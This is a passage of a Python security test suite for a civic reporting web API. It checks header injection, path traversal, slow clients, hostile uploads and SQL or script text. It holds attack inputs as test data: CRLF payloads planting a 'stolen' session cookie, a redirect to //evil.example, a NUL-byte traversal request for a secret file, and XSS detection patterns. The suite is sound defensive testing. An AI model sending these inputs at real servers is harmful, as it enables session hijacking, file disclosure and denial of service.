                self.assertServing(name)
                self.assertUnchanged(before, name)

    def test_server_problems_speak_both_languages(self):
        # Where the server could read the headers, its refusals carry Accept-Language's words.
        for name, raw in (
                ("413", request("POST", "/api/v1/reports", ["Content-Length: 104857600"])),
                ("415", request("POST", "/api/v1/reports", ["Content-Type: text/plain",
                                                            "Content-Length: 2"], b"{}")),
                ("404", request("GET", "/api/v1/khong-co")),
                ("400 malformed JSON", request("POST", "/api/v1/reports",
                                               ["Content-Type: application/json",
                                                "Content-Length: 1"], b"{"))):
            with self.subTest(name):
                if name.startswith(("400", "415")):
                    token = self.citizen().token
                    raw = raw.replace(b"Host: 127.0.0.1\r\n",
                                      f"Host: 127.0.0.1\r\nAuthorization: Bearer {token}\r\n"
                                      .encode())
                vi = wire(self.env.server.port, raw)
                en = wire(self.env.server.port, raw.replace(
                    b"Host: 127.0.0.1\r\n", b"Host: 127.0.0.1\r\nAccept-Language: en\r\n"))
                self.assertWireProblem(vi, (int(name[:3]),), name)
                self.assertWireProblem(en, (int(name[:3]),), name)
                self.assertEqual(vi.header("content-language"), "vi", vi)
                self.assertEqual(en.header("content-language"), "en", en)
                self.assertNotEqual(vi.problem()["title"], en.problem()["title"])
                self.assertEqual(vi.problem()["code"], en.problem()["code"])

    def test_header_injection_never_splits_a_response(self):
        citizen = self.citizen()
        before = self.snapshot()
        for name, target, headers in INJECTION_CASES:
            with self.subTest(name):
                method = "POST" if target == "/api/v1/reports" else "GET"
                token = self.tok("leader1") if "/staff/" in target else citizen.token
                hdrs = [f"Authorization: Bearer {token}"] + headers
                body = good_json() if method == "POST" else b""
                if body:
                    hdrs += ["Content-Type: application/json", f"Content-Length: {len(body)}"]
                hdrs.append("Connection: close")
                raw = request(method, target, hdrs, body)
                r = wire(self.env.server.port, raw)
                self.assertNotEqual(r.status, 0, f"{name}: no answer")
                self.assertLess(r.status, 500, f"{name}: {r!r}")
                # Encoded text may come back encoded (a redirect keeps its query); what must
                # never appear is a header line the client wrote, or a redirect off the site.
                for k, v in r.headers:
                    self.assertNotIn(k, ("x-stolen", "x"), f"{name}: {r.head}")
                    self.assertFalse(k == "set-cookie" and "stolen" in v, f"{name}: {r.head}")
                    self.assertFalse(k == "location" and urllib.parse.urlsplit(v).hostname
                                     not in (None, "127.0.0.1"), f"{name}: {r.head}")
                self.assertEqual(r.data.count(b"HTTP/1.1 "), 1, f"{name}: {r!r}")
                request_id = r.header("x-request-id") or ""
                self.assertRegex(request_id, r"^[A-Za-z0-9._-]{1,64}$", name)
                self.assertServing(name)
        self.assertUnchanged(before, "header injection")
        # A redirect echoes the query: encoded CR/LF stays encoded (on the server with a site).
        for query in ("%0d%0aSet-Cookie:%20cds_session=stolen", "%E5%98%8A%E5%98%8DX:1",
                      "a=%0a%0dLocation:%20//evil.example"):
            with self.subTest(f"redirect with {query}"):
                r = wire(self.aux.port, request("GET", f"/app?{query}", ["Connection: close"]))
                self.assertEqual(r.status, 301, r)
                self.assertEqual(r.count("set-cookie"), 0, r.head)
                self.assertEqual(r.count("location"), 1, r.head)
                self.assertTrue(r.header("location").startswith("/app/?"), r.head)
                self.assertNotIn("\n", r.header("location"))

    def test_malformed_json_is_refused_and_writes_nothing(self):
        citizen = self.citizen()
        for name, raw, ctype, accepted in JSON_CASES:
            with self.subTest(name):
                before = self.snapshot()
                r = self.http.post("/api/v1/reports", raw=raw, content_type=ctype or None,
                                   token=citizen.token)
                self.assertIn(r.status, accepted, f"{name}: {r!r}")
                self.assertProblem(r, r.status)
                self.assertUnchanged(before, name)
                self.assertServing(name)

    def sample_jpeg(self) -> bytes:
        """A real JPEG made by the server (uploaded from a PNG once; that row is not a case)."""
        cls = type(self)
        if not cls.jpeg:
            owner = self.citizen()
            r = self.upload(owner.token, *multipart_png(png(64, 48)))
            self.assertEqual(r.status, 201, r)
            got = self.http.get(r.json()["url"], token=owner.token)
            self.assertEqual(got.status, 200, got)
            cls.jpeg = got.body
        return cls.jpeg

    def test_hostile_uploads_are_refused_and_store_nothing(self):
        jpeg = self.sample_jpeg()
        citizen = self.citizen()
        files_before = count_files(self.env.data_dir)
        for name, body, ctype, accepted in upload_cases(jpeg):
            with self.subTest(name):
                before = self.snapshot()
                r = self.upload(citizen.token, body, ctype)
                self.assertIn(r.status, accepted, f"{name}: {r!r}")
                self.assertProblem(r, r.status)
                self.assertUnchanged(before, name)
                self.assertServing(name)
        self.assertEqual(count_files(self.env.data_dir), files_before, "files left on disk")

    def test_path_traversal_never_leaves_the_build(self):
        before = self.snapshot()
        inside = {b"<!doctype html><title>app shell</title>",
                  b"<!doctype html><title>staff shell</title>", b"console.log('app');"}
        for target in TRAVERSALS:
            with self.subTest(target):
                raw = f"GET {target} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n"
                r = wire(self.aux.port, raw.encode("latin-1"))
                self.assertNotIn(self.secret.encode(), r.data, f"{target}: secret served")
                self.assertNotIn(b"root:x:0:0", r.data, f"{target}: /etc/passwd served")
                self.assertNotEqual(r.status, 0, f"{target}: no answer")
                self.assertLess(r.status, 500, f"{target}: {r!r}")
                if 200 <= r.status < 300:
                    self.assertIn(r.body, inside, f"{target}: served something else: {r!r}")
                elif 300 <= r.status < 400:
                    location = r.header("location") or ""
                    self.assertTrue(location.startswith("/") and not location.startswith("//"),
                                    f"{target}: redirect to {location!r}")
                else:
                    self.assertWireProblem(r, (400, 404), target)
                self.assertServing(target, self.aux.port)
        # The raw NUL byte, which no URL may carry.
        r = wire(self.aux.port, b"GET /app/\x00../secret.txt HTTP/1.1\r\nHost: x\r\n\r\n")
        self.assertWireProblem(r, (400,), "raw NUL")
        self.assertUnchanged(before, "traversal")

    def test_slow_clients_are_cut_off(self):
        # Every case below would hold a connection for ever if the read deadline did not hold:
        # the server must answer 408 or close within its read timeout (1.5 s here); the test
        # gives it CUT_PATIENCE_S before calling it a hang.
        port = self.aux.port
        head = b"POST /api/v1/reports HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
        plans = {
            "request line a byte a second": ([bytes([c]) for c in b"GET /healthz HTTP/1.1\r\n"],
                                             1.0),
            "headers a line every 600 ms without end": (
                [b"GET /healthz HTTP/1.1\r\n"] + [b"X-%d: 1\r\n" % i for i in range(60)], 0.6),
            "body a byte a second": ([head + b"Content-Length: 40\r\n\r\n"] + [b"{"] * 40, 1.0),
            "connection opened and silent": ([b""], 0.0),
            "chunked body a chunk a second without end": (
                [head + b"Transfer-Encoding: chunked\r\n\r\n"] + [b"1\r\n \r\n"] * 40, 1.0),
        }
        self.assertEqual(set(plans), set(SLOW_CASES))
        before = self.snapshot()
        for name in SLOW_CASES:
            pieces, pause = plans[name]
            with self.subTest(name):
                started = time.monotonic()
                r = slow_wire(port, pieces, pause, CUT_PATIENCE_S)
                self.assertTrue(r.closed, f"{name}: still open after "
                                f"{time.monotonic() - started:.0f} s: {r!r}")
                if r.status:
                    self.assertWireProblem(r, (408,), name)
                self.assertServing(name, port)
        self.assertUnchanged(before, "slow clients")

    def test_hostile_text_is_stored_literally(self):
        # SQL and script in every text field of the public writes: just text. Each write that
        # the rules allow answers 2xx with the text as sent (JSON, never HTML) and stores it as
        # is; a field with a format of its own (a phone number) may refuse it with a 422.
        author = self.citizen()
        op = self.tok("operator1")
        unit = self.tok("evn1")
        editor = self.tok("editor1")
        reports_before = self.env.count("reports")
        writes = 0
        for text in HOSTILE_TEXTS:
            t = tag()
            with self.subTest("report description", text=text):
                rep = self.submit(author.token, description=f"{t} {text}")
                writes += 1
                self.assertEqual(rep["description"], f"{t} {text}")
                self.assertEqual(self.citizen_view(author.token, rep["id"])["description"],
                                 f"{t} {text}")
            with self.subTest("report address", text=text):
                rep = self.submit(author.token, address=text)
                writes += 1
                self.assertEqual(rep["location"]["address"], text)
            with self.subTest("idea description", text=text):
                r = self.http.post("/api/v1/reports",
                                   {"kind": "idea", "category": "khac",
                                    "description": f"{t} {text}"}, token=author.token)
                self.assertEqual(r.status, 201, r)
                writes += 1
                self.assertEqual(r.json()["description"], f"{t} {text}")
            with self.subTest("phone intake caller name", text=text):
                r = self.http.post("/api/v1/staff/reports",
                                   {**self.report_body(), "caller_name": text,
                                    "caller_phone": "0901234567"}, token=op)
                self.assertEqual(r.status, 201, r)
                writes += 1
                self.assertEqual(self.staff_view(op, r.json()["id"])["caller"]["name"], text)
            with self.subTest("withdraw reason", text=text):
                rep = self.submit(author.token)
                writes += 1
                self.author_act(author.token, rep["id"], "withdraw", {"reason": text})
                self.assertTimelineHas(rep["id"], text)
            with self.subTest("reject reason", text=text):
                rep = self.submit(author.token)
                writes += 1
                self.staff_act(op, rep["id"], "reject", {"reason": text})
                self.assertTimelineHas(rep["id"], text)
            with self.subTest("resolve result, rating comment, reopen reason", text=text):
                rep = self.report_in_state("in_progress", author, op, unit)
                writes += 1
                self.staff_act(unit, rep["id"], "resolve", {"result": text})
                self.assertTimelineHas(rep["id"], text)
                rated = self.author_act(author.token, rep["id"], "rating",
                                        {"score": 2, "comment": text}).json()
                self.assertEqual(rated["rating"]["comment"], text)
                self.author_act(author.token, rep["id"], "reopen", {"reason": text + " (mở lại)"})
                self.assertTimelineHas(rep["id"], text + " (mở lại)")
            with self.subTest("news preview body", text=text):
                r = self.http.post("/api/v1/staff/news/preview", {"body_md": text}, token=editor)
                self.assertEqual(r.status, 200, r)
                html = r.json()["html"].lower()
                # Escaped text is fine; a live tag, handler attribute or script URL is not.
                for live in (r"<script", r"<svg", r"<img", r"<[^>]*\son\w+\s*=",
                             r"href\s*=\s*[\"']?\s*javascript:"):
                    self.assertIsNone(re.search(live, html), f"{text!r} rendered as {html!r}")
            self.assertServing(text)
        # Every table is still there and holds exactly the writes made.
        self.assertEqual(self.env.count("reports"), reports_before + writes)
        for table in WATCHED_TABLES:
            self.env.count(table)

    def assertTimelineHas(self, rid: int, text: str) -> None:
        literal = text.replace("'", "''")
        n = self.env.count("report_timeline", f"report_id = {rid} AND body = '{literal}'")
        self.assertEqual(n, 1, f"report {rid}: {text!r} not stored as is")

    def test_hostile_text_in_queries_is_only_data(self):
        op = self.tok("operator1")
        before = self.snapshot()
        for text in HOSTILE_TEXTS:
            q = urllib.parse.quote(text, safe="")
            for name, pattern in QUERY_TARGETS + STAFF_QUERY_TARGETS:
                with self.subTest(name, text=text):
                    token = op if name.startswith("staff") else None
                    r = self.http.get(pattern.replace("{}", q), token=token)
                    # Dossier look-ups are rate limited per address (429 with Retry-After).
                    allowed = (200, 400, 404, 422) + ((429,) if "dossier" in name else ())
                    self.assertIn(r.status, allowed, r)
                    self.assertIn(r.content_type, ("application/json", "application/problem+json"),
                                  r)
                    if r.status >= 400:
                        self.assertProblem(r, r.status)
            self.assertServing(text)
        self.assertUnchanged(before, "queries")


    def test_hostile_text_in_codes_is_refused(self):
        citizen = self.citizen()
        for text in HOSTILE_TEXTS:
            for name, method, path, body in CODE_FIELDS:
                with self.subTest(name, text=text):
                    before = self.snapshot()
                    filled = json.loads(json.dumps(body).replace("{}", json.dumps(text)[1:-1]))
                    url = path.replace("{}", urllib.parse.quote(text, safe=""))
                    r = self.http.request(method, url, filled, token=citizen.token)
                    self.assertGreaterEqual(r.status, 400, r)
                    self.assertLess(r.status, 500, r)
                    self.assertProblem(r, r.status)
                    self.assertUnchanged(before, name)
            self.assertServing(text)


def multipart_png(data: bytes) -> tuple[bytes, str]:
    b = "cds" + secrets.token_hex(12)
    return multipart([("file", "a.png", "image/png", data)], b), \
        f"multipart/form-data; boundary={b}"


def count_files(root: str) -> int:
    return sum(len(files) for _, _, files in os.walk(root))


def slow_wire(port: int, pieces: list[bytes], pause: float, patience: float) -> Wire:
    """Sends `pieces` `pause` seconds apart and stops sending once the server closes; returns
    what came back and whether the connection was closed within `patience` seconds."""
    data = b""
    closed = False
    deadline = time.monotonic() + patience
    with socket.create_connection(("127.0.0.1", port), timeout=patience) as s:
        s.setblocking(False)
        i = 0
        next_send = time.monotonic()
        while time.monotonic() < deadline:
            if i < len(pieces) and time.monotonic() >= next_send:
                try:
                    if pieces[i]:
                        s.send(pieces[i])
                except (BrokenPipeError, ConnectionResetError):
                    closed = True
                    break
                i += 1
                next_send = time.monotonic() + pause
            try:
                chunk = s.recv(65536)
                if not chunk:
                    closed = True
                    break
                data += chunk
            except BlockingIOError:
                time.sleep(0.05)
            except ConnectionResetError:
                closed = True
                break
    return Wire(data, closed)
